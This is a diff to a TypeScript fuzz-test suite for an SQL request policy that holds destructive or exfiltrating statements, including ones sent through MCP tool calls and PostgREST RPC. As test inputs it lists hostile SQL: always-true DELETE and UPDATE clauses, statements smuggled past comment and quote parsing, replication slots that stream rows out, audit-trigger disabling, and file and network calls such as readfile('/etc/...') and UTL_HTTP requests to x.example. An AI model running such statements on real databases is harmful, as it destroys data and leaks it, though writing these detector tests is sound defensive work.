@@ -9,7 +9,7 @@
 //   - reads stay reads (no harmless read newly held).
 import t from 'tap';
 import fc from 'fast-check';
-import { bodyPolicy, SQL_HOST } from './body-policy.ts';
+import { bodyPolicy, MCP_HOST, SQL_HOST } from './body-policy.ts';
 
 const runs = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 120);
 const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
@@ -117,6 +117,17 @@ const constructs: Construct[] = [
   // The table's own values: every row is among them.
   { name: 'DELETE WHERE IN itself', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} IN ( SELECT ${c} FROM ${t} )` },
   { name: 'UPDATE WHERE = ANY itself', dialects: ['postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${c} = ANY ( SELECT ${c} FROM ${t} WHERE 1 = 1 )` },
+  // Rows offered to other servers: a publication, a replication slot (every later change, read out).
+  { name: 'CREATE PUBLICATION', dialects: ['postgresql'], sql: (t) => `CREATE PUBLICATION ${t} FOR ALL TABLES` },
+  { name: 'ALTER PUBLICATION', dialects: ['postgresql'], sql: (t, c) => `ALTER PUBLICATION ${t} ADD TABLE ${c}` },
+  { name: 'replication slot', dialects: ['postgresql'], sql: (t) => `SELECT pg_create_logical_replication_slot ( '${t}' , 'test_decoding' )` },
+  { name: 'replication slot changes', dialects: ['postgresql'], sql: (t) => `SELECT * FROM pg_catalog.pg_logical_slot_get_changes ( '${t}' , NULL , NULL )` },
+  // Code others call swapped by name; DDL auditing switched off.
+  { name: 'ALTER FUNCTION RENAME', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) RENAME TO ${c}` },
+  { name: 'ALTER FUNCTION SET SCHEMA', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) SET SCHEMA ${c}` },
+  { name: 'ALTER VIEW RENAME', dialects: ['postgresql'], sql: (t, c) => `ALTER VIEW ${t} RENAME TO ${c}` },
+  { name: 'ALTER EVENT TRIGGER DISABLE', dialects: ['postgresql'], sql: (t) => `ALTER EVENT TRIGGER ${t} DISABLE` },
+  { name: 'DELETE WHERE = ANY itself LIMIT ALL', dialects: ['postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} = ANY ( SELECT ${c} FROM ${t} LIMIT ALL )` },
   // WHERE clauses that name no value the rows are narrowed to: the column against itself through
   // arithmetic, functions, ranges or arrays; IS NOT NULL; a regular expression every string matches.
   // (SQLite's sample rows miss the ones true only for numbers; PostgreSQL's reading adds them.)
@@ -131,6 +142,17 @@ const constructs: Construct[] = [
     [(c: string) => `( ${c} = 5 ) IS NOT TRUE`, ['sqlite', 'postgresql']], [(c: string) => `( ${c} = ${c} ) IS NOT FALSE`, ['sqlite', 'postgresql']],
     [(c: string) => `${c} IS DISTINCT FROM 5`, ['sqlite', 'postgresql']],
     [(c: string) => `${c} = ANY ( ARRAY [ ${c} ] )`, ['postgresql']], [(c: string) => `${c}::text ~ ''`, ['postgresql']], [(c: string) => `${c}::text ~* '.*'`, ['postgresql']],
+    // True for every row by their values, not their shape (PostgreSQL's reading adds SQLite's
+    // sample run where SQLite reads the statement too); PostgreSQL's LIKE and SIMILAR TO spelled
+    // as operators, and patterns every string matches.
+    [(c: string) => `( ${c} > 0 ) OR ( ${c} <= 0 )`, ['sqlite', 'postgresql']], [(c: string) => `NOT ( ${c} = 1 AND ${c} = 2 )`, ['sqlite', 'postgresql']],
+    [(c: string) => `${c} = ( SELECT ${c} )`, ['sqlite', 'postgresql']], [(c: string) => `${c} LIKE '%' ESCAPE '!'`, ['sqlite', 'postgresql']],
+    [(c: string) => `${c} > -9223372036854775808`, ['sqlite', 'postgresql']],
+    [(c: string) => `${c}::text ~~ '%'`, ['postgresql']], [(c: string) => `${c}::text ~~* '%%'`, ['postgresql']], [(c: string) => `${c}::text SIMILAR TO '%'`, ['postgresql']],
+    [(c: string) => `${c}::text ~ 'a*'`, ['postgresql']], [(c: string) => `${c}::text ~ '^'`, ['postgresql']],
+    // A pattern that names the rows spared (as `<>` does), or a list with a pattern every string matches.
+    [(c: string) => `${c}::text !~ 'zz'`, ['postgresql']], [(c: string) => `${c}::text NOT SIMILAR TO 'zz%'`, ['postgresql']], [(c: string) => `${c} NOT LIKE 'qq%'`, ['sqlite', 'postgresql']],
+    [(c: string) => `${c}::text ILIKE ANY ( ARRAY [ 'a%' , '%' ] )`, ['postgresql']], [(c: string) => `${c}::text LIKE ALL ( ARRAY [ '%' ] )`, ['postgresql']],
   ] as Array<[(c: string) => string, Dialect[]]>).flatMap(([w, dialects], i): Construct[] => [
     { name: `DELETE WHERE unnarrowed ${i}`, dialects, sql: (t, c) => `DELETE FROM ${t} WHERE ${w(c)}` },
     { name: `UPDATE WHERE unnarrowed ${i}`, dialects, sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${w(c)}` },
@@ -258,10 +280,13 @@ t.test('a statement hidden from the other grammars by BigQuery\'s triple-quoted 
     (d: string) => `SELECT ''' x ' || ''' ; ${d} ; -- '`,
     (d: string) => `SELECT ''' x ' AS a, ''' ; ${d} ; # '`,
     (d: string) => `SELECT r''' x ' || ''' ; ${d} ; -- '`,
+    // ZetaSQL ends `#` comments at a carriage return too; MySQL only at a line feed.
+    (d: string) => `SELECT 1 #\r; ${d} ;`,
+    (d: string) => `SELECT 1 # x ' \r; ${d} ; # '`,
   );
   const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2} WHERE TRUE`, (t2: string) => `UPDATE ${t2} SET a = 1 WHERE TRUE`);
   await heldCriticalAndAmbiguous(hide, destructive);
-  for (const sql of ["SELECT '''it's''' AS a FROM t", 'SELECT """a "quoted" word""" AS a FROM t', "SELECT r'\\d+' AS re FROM t"]) {
+  for (const sql of ["SELECT '''it's''' AS a FROM t", 'SELECT """a "quoted" word""" AS a FROM t', "SELECT r'\\d+' AS re FROM t", 'SELECT a FROM t # the rows\r\nWHERE c = 1']) {
     const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
     t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
   }
@@ -338,7 +363,18 @@ t.test('reads stay reads in every dialect', async (t) => {
     }),
     { numRuns: runs, ...seed },
   );
-  t.pass('checked');
+  // PostgreSQL's reads through the calls its parser writes for `SIMILAR TO` and `LIKE … ESCAPE`
+  // (they were calls not proven read-only: writes); deletes that name the rows kept stay writes.
+  for (const e of endpoints.postgresql) {
+    for (const sql of ["SELECT * FROM users WHERE name SIMILAR TO 'a%'", "SELECT * FROM users WHERE name LIKE 'a!%%' ESCAPE '!'"]) {
+      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
+      t.equal(decision.action, 'allow', `${sql} on ${e.url}`);
+    }
+    for (const sql of ['DELETE FROM sessions WHERE id > 100', "DELETE FROM users WHERE name ~ '^a'", "UPDATE users SET a = 1 WHERE name SIMILAR TO 'a%'"]) {
+      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
+      t.equal(decision.approval?.risk, 'medium', `${sql} on ${e.url}: a write`);
+    }
+  }
 });
 
 t.test('a statement hidden in a string by backslash escapes (standard_conforming_strings off, MySQL) is held critical', async (t) => {
@@ -395,4 +431,197 @@ t.test('SQL in the REST shapes of Snowflake, Databricks, BigQuery and Trino is r
     const { decision } = await decide({ url, headers: [['Content-Type', type]], body: body('SELECT name FROM users WHERE id = 1') });
     t.not(decision.approval?.risk, 'critical', `a read to ${url} stays ordinary`);
   }
+});
+
+t.test('the file, program and network functions of the other servers an endpoint of unknown dialect may be are destructive', async (t) => {
+  // PostgreSQL's grammar parses any call, and SQLite (which has none of these) rejects the text,
+  // so PostgreSQL's reading stood alone: a call it cannot prove read-only, a medium write that a
+  // grant for another call of the same function covered.
+  const calls = fc.constantFrom(
+    (x: string) => `SELECT load_extension ( '/tmp/${x}.so' )`,
+    (x: string) => `SELECT writefile ( '/tmp/${x}' , 'y' )`,
+    (x: string) => `SELECT readfile ( '/etc/${x}' )`,
+    (x: string) => `SELECT LOAD_FILE ( '/etc/${x}' )`,
+    (x: string) => `SELECT UTL_HTTP.REQUEST ( 'http://x.example/' || ${x} ) FROM ${x}`,
+    (x: string) => `SELECT dbms_xmlgen.getxml ( 'DELETE FROM ${x}' ) FROM dual`,
+    (x: string) => `SELECT * FROM OPENROWSET ( 'SQLNCLI' , 'Server=x.example;' , 'SELECT 1' ) AS ${x}`,
+    (x: string) => `SELECT * FROM url ( 'https://x.example/${x}' , CSV , 'a String' )`,
+    (x: string) => `SELECT * FROM s3 ( 'https://b.s3.amazonaws.com/${x}.csv' )`,
+    (x: string) => `SELECT * FROM remoteSecure ( 'x.example:9440' , db.${x} )`,
+    (x: string) => `SELECT * FROM read_csv_auto ( 'https://x.example/${x}.csv' )`,
+    (x: string) => `SELECT SYSTEM$SEND_EMAIL ( 'i' , 'a@x.example' , '${x}' , 'b' )`,
+    (x: string) => `SELECT * FROM EXTERNAL_QUERY ( 'p.us.${x}' , 'SELECT 1' )`,
+  );
+  await fc.assert(
+    fc.asyncProperty(calls, ident, noise, async (c, x, n) => {
+      const sql = render(c(x), n);
+      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: columns named like them are columns; a PostgreSQL service's own function of such a name is its own (a write, not critical).
+  const column = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'SELECT url, file, remote FROM links WHERE id = 1' }) });
+  t.not(column.decision.approval?.risk, 'critical', 'columns named url, file, remote');
+  const own = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "SELECT file('report')" }) });
+  t.not(own.decision.approval?.risk, 'critical', "a PostgreSQL service's own file()");
+});
+
+t.test('SQL an MCP tool takes under any SQL-carrying argument, or in a list of statements, is read', async (t) => {
+  // Neon's `run_sql_transaction {params: {sqlStatements: […]}}` and `prepare_database_migration
+  // {params: {migrationSql}}`, SQLite servers' `{queries: […]}`: a DROP there was a high tool call
+  // (grantable by a SELECT's grant). A second argument that is not SQL (a field the server
+  // ignores) left the whole call unparsed, and the DROP beside it high, not critical.
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const shapes = fc.constantFrom(
+    (d: string) => ({ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', d] } } }),
+    (d: string) => ({ name: 'prepare_database_migration', arguments: { params: { projectId: 'p', migrationSql: d } } }),
+    (d: string) => ({ name: 'write_query', arguments: { queries: [d] } }),
+    (d: string) => ({ name: 'run', arguments: { SQL_Statement: d } }),
+    (d: string) => ({ name: 'batch', arguments: { statements: [{ sql: 'SELECT 1' }, { sql: d }] } }),
+    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: d, sql: 'weekly report' } }),
+    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: 'all customers', params: { sql: d } } }),
+  );
+  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`);
+  await fc.assert(
+    fc.asyncProperty(shapes, destructive, ident, async (shape, d, x) => {
+      const params = shape(d(x));
+      const { description, decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(params)}: ${decision.action} ${decision.rule} ${JSON.stringify(description.mcp?.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: a list of reads and a search phrase stay ordinary tool calls (high, not critical).
+  for (const params of [{ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', 'SELECT name FROM users WHERE id = 2'] } } }, { name: 'search_docs', arguments: { query: 'open bugs' } }]) {
+    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
+    t.equal(decision.approval?.risk, 'high', `${params.name}: an ordinary tool call`);
+  }
+});
+
+t.test('PostgREST RPC calls that run their argument are read as PostgreSQL on any host', async (t) => {
+  // Only Supabase's RPC calls were read: `POST …/rpc/exec_sql {query: "DROP TABLE …"}` to a
+  // self-hosted PostgREST or Neon's Data API was a plain write, covered by a grant for a SELECT.
+  const urls = [`https://${SQL_HOST}/rest/v1/rpc/exec_sql`, `https://${SQL_HOST}/rpc/run_query`, 'https://ep-cool-darkness-123456.apirest.us-east-2.aws.neon.tech/neondb/rest/v1/rpc/exec_sql', 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec'];
+  // The function's parameter names are its author's: `sql_text`, `stmt` were not read even on Supabase.
+  const bodies = fc.constantFrom(
+    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ query: sql }) }),
+    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ sql_query: sql }) }),
+    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ sql_text: sql, dry_run: false }) }),
+    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ stmt: sql }) }),
+    (sql: string) => ({ type: 'application/json', body: JSON.stringify([{ query: 'SELECT 1' }, { query: sql }]) }),
+    (sql: string) => ({ type: 'application/x-www-form-urlencoded', body: `statement=${encodeURIComponent(sql)}` }),
+    (sql: string) => ({ type: 'text/plain', body: sql }),
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...urls), bodies, fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`), ident, async (url, b, d, x) => {
+      const { type, body } = b(d(x));
+      const { description } = await decide({ url, headers: [['Content-Type', type]], body });
+      if (!description.sql?.destructive || description.sql.dialect !== 'postgresql') throw new Error(`${body} to ${url}: ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  const { decision } = await decide({ url: urls[0]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DROP TABLE users' }) });
+  t.equal(decision.approval?.risk, 'critical', 'held critical on an allowed host');
+  const read = await decide({ url: urls[0]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT name FROM users WHERE id = 1' }) });
+  t.not(read.decision.approval?.risk, 'critical', 'a read stays ordinary');
+  const search = await decide({ url: urls[3]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ term: 'drop table tennis' }) });
+  t.not(search.decision.approval?.risk, 'critical', 'an argument not named for SQL is not SQL');
+});
+
+t.test('an operator nothing proves built in is a call of a function someone created, not a read', async (t) => {
+  // `SELECT 1 === 1` and `OPERATOR(public.=)` call whatever function the operator names (written
+  // by anyone who could create it): they were allowed as reads, and a grant for `SELECT 1` covered them.
+  for (const e of endpoints.postgresql) {
+    for (const sql of ['SELECT 1 === 1', 'SELECT a FROM t WHERE b OPERATOR(public.=) 1', 'SELECT a FROM t WHERE b = ANY (SELECT c FROM u) AND b !== 2']) {
+      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
+      t.not(decision.action, 'allow', `${sql} on ${e.url}`);
+      t.ok(description.sql?.statements[0]?.functions?.some((f) => f.startsWith('operator(')), 'the operator is named in the scope');
+    }
+    // Controls: PostgreSQL's own operators and the common extensions' (pgvector, pg_trgm, PostGIS, JSON) stay reads.
+    for (const sql of ["SELECT * FROM items ORDER BY embedding <=> '[1,2,3]' LIMIT 5", "SELECT * FROM t WHERE tags @> ARRAY['a'] AND doc ->> 'k' = 'v' AND name % 'x'", 'SELECT a FROM t WHERE b OPERATOR(pg_catalog.=) 1', 'SELECT a FROM t WHERE geom && box AND x = ANY (ARRAY[1, 2])']) {
+      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
+      t.equal(decision.action, 'allow', `${sql} on ${e.url}`);
+    }
+  }
+});
+
+t.test('`{query}` to any path is SQL when a grammar reads statements in it; an SQL path is one whatever its suffix', async (t) => {
+  // `/v1/query;jsessionid=…` and `/v1/query.json` route to `/v1/query` on Java and Rails servers,
+  // and `/api/v1/run` may run SQL too: `{query: "DROP TABLE …"}` there was a plain POST (medium,
+  // covered by a grant for a SELECT to the same URL).
+  const paths = fc.constantFrom('/v1/query;jsessionid=A1', '/v1/query.json', '/v1/statements.xml', '/api/v1/run', '/');
+  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `SELECT 1 /*! ; DROP TABLE ${x} */`);
+  await fc.assert(
+    fc.asyncProperty(paths, fc.constantFrom('query', 'statement'), destructive, ident, async (p, key, d, x) => {
+      const { description, decision } = await decide({ url: `https://${SQL_HOST}${p}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: d(x) }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${key}: ${d(x)} to ${p}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: words that no grammar reads as statements are not SQL; a read is an ordinary POST.
+  for (const query of ['red shoes size 42', 'who wrote the report?', 'SELECT name FROM users WHERE id = 1']) {
+    const { description, decision } = await decide({ url: `https://${SQL_HOST}/search`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query }) });
+    t.equal(decision.approval?.risk, 'medium', `${query}: an ordinary POST`);
+    t.equal(description.sql?.parsed ?? true, true, 'never unparsed SQL');
+  }
+});
+
+t.test('a WHERE clause decided by the values the request binds (D1 and Neon params) is judged with those values', async (t) => {
+  // `email LIKE ?` with `["%"]` deletes every row as `email LIKE '%'` does; the sample run bound
+  // only a value of its own (or NULL), so the parameter form was a medium write.
+  const wheres: Array<[(c: string, p: (n: number) => string) => string, unknown[]]> = [
+    [(c, p) => `${c} LIKE ${p(1)}`, ['%']],
+    [(c, p) => `${c} > ${p(1)}`, [-1e12]],
+    [(c, p) => `${c} >= ${p(2)} OR ${c} = ${p(1)}`, [7, -1e12]],
+    [(c, p) => `${c} = ${p(1)} OR ${p(2)}`, [1, true]],
+    [(c, p) => `( ${c} LIKE ${p(1)} ) IS NOT FALSE`, ['%%']],
+  ];
+  const places = [
+    { url: D1, key: 'sql', p: (n: number) => `?${n}` },
+    { url: NEON, key: 'query', p: (n: number) => `$${n}` },
+  ];
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...wheres), fc.constantFrom(...places), fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async ([w, params], e, verb, tbl, col) => {
+      fc.pre(tbl !== col);
+      const where = w(col, e.p);
+      const sql = verb === 'DELETE' ? `DELETE FROM ${tbl} WHERE ${where}` : `UPDATE ${tbl} SET ${col} = 0 WHERE ${where}`;
+      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql, params }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} ${JSON.stringify(params)} on ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: values that name rows keep the statement an ordinary write.
+  for (const [url, key, sql, params] of [[D1, 'sql', 'DELETE FROM users WHERE email LIKE ?', ['a%']], [D1, 'sql', 'DELETE FROM users WHERE id = ?', [5]], [NEON, 'query', 'DELETE FROM users WHERE id = $1', [3]], [NEON, 'query', "UPDATE users SET a = 1 WHERE name LIKE $1", ['bob%']]] as Array<[string, string, string, unknown[]]>) {
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql, params }) });
+    t.equal(decision.approval?.risk, 'medium', `${sql} ${JSON.stringify(params)}: a write`);
+  }
+});
+
+t.test('SQL in the URL is read, whatever the method: `?sql=`, `?query=` to an SQL path, ClickHouse behind another name', async (t) => {
+  // A GET's SQL was never read (an allowed host's GET was allowed, `?sql=DROP TABLE …` included),
+  // nor `POST /?query=…` to ClickHouse behind a proxy on 443 without X-ClickHouse headers.
+  const shapes = fc.constantFrom(
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/api/query?format=json&query=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?database=db&query=${encodeURIComponent(sql)}`, body: '' }),
+    // The parameter, a line feed, then the body: one statement to ClickHouse.
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?query=${encodeURIComponent(sql.split(' ')[0]!)}`, body: sql.split(' ').slice(1).join(' ') }),
+  );
+  const bad = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `TRUNCATE TABLE ${x}`, (x: string) => `SELECT * FROM url ( 'https://x.example/?d=' , CSV , 'a String' ) AS ${x}`);
+  await fc.assert(
+    fc.asyncProperty(shapes, bad, ident, async (shape, d, x) => {
+      const r = shape(d(x));
+      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', 'text/plain']], body: r.body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: reads in a GET stay allowed, ClickHouse-only reads are not failed closed, a search stays a search.
+  for (const url of [`https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`, `https://${SQL_HOST}:8123/?query=${encodeURIComponent('SHOW TABLES')}`, `https://${SQL_HOST}/search?query=${encodeURIComponent('drop table tennis')}`]) {
+    const { decision } = await decide({ method: 'GET', url, body: '' });
+    t.equal(decision.action, 'allow', `GET ${url}`);
+  }
+  const rows = await decide({ url: `https://${SQL_HOST}/?query=${encodeURIComponent('INSERT INTO logs FORMAT CSV')}`, headers: [['Content-Type', 'text/plain']], body: '1,2\n' });
+  t.not(rows.decision.approval?.risk, 'critical', 'rows after INSERT … FORMAT CSV');
 });
